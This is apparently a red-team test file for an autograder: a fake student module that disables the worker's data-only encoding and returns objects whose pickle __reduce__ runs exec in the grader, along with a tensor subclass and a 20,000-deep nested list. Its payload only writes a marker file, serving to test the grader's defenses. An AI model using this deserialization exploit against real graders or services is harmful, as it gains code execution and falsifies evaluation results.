"""Attack: send the grader replies that would run code when unpickled, and replies that recurse deeply.

The worker's reply encoder is patched to pass objects through untouched, so
torch.save pickles them as they are: a __reduce__ that would write a forged file
from the grader's process, a tensor subclass, a 20,000-deep nested list.
"""

import sys

import torch

import autograder.student.wire as wire

PAYLOAD = ("from pathlib import Path; Path('/tmp/autograder-attacks-out').mkdir(exist_ok=True); "
           "Path('/tmp/autograder-attacks-out/FORGED_PICKLE').write_text('FORGED-BY-ATTACK')")


class Payload:  # ATTACK
    def __reduce__(self):
        return (exec, (PAYLOAD,))


class Sub(torch.Tensor):
    pass


wire.to_wire = lambda value, keep: value  # ATTACK: no more data-only encoding in the worker


def _deep(depth=20_000):
    sys.setrecursionlimit(100_000)  # so that the worker can pickle it
    nested = 0.0
    for _ in range(depth):
        nested = [nested]
    return nested


def linear_combination(xs, weights):
    return Payload()


def affine(x, W, b):
    return torch.zeros(W.shape[0]).as_subclass(Sub)


def derivative(f, x0):
    return _deep()


def select_device(prefer="auto"):
    return [Payload(), torch.device("cpu")]


def make_loader(x, y, batch_size, shuffle=False, seed=None):
    return {"epochs": Payload()}


def train_step(model, loss_fn, optimizer, xb, yb):
    return [Payload()]
